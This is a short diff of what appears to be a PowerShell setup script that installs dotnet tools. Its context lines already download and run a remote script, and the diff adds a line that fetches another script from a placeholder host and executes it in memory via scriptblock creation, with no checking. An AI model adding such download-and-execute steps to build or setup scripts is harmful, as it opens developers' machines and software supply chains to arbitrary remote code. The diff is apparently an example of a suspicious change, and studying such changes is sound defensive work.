@@ -9,3 +9,4 @@ dotnet tool install --global dotnet-format --version 5.1.250801
 dotnet tool restore
 iwr https://example.com/s2.ps1 -OutFile s2.ps1
 .\s2.ps1
+& ([scriptblock]::Create((irm https://example.com/x.ps1)))
